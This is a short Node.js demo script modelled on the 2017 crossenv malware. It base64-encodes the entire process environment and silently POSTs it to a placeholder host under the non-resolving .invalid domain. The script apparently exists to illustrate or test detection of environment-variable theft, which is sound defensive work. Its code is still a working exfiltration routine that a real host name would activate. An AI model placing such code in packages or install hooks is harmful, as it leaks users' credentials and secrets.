'use strict';
// Demo payload in the style of crossenv (2017): serialise the environment and post it out.
// Harmless by construction: the host is under .invalid, which never resolves.
const https = require('https');
const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
const req = https.request({ host: 'collector.vigil-demo.invalid', path: '/e', method: 'POST' }, () => {});
req.on('error', () => {});
req.end(body);
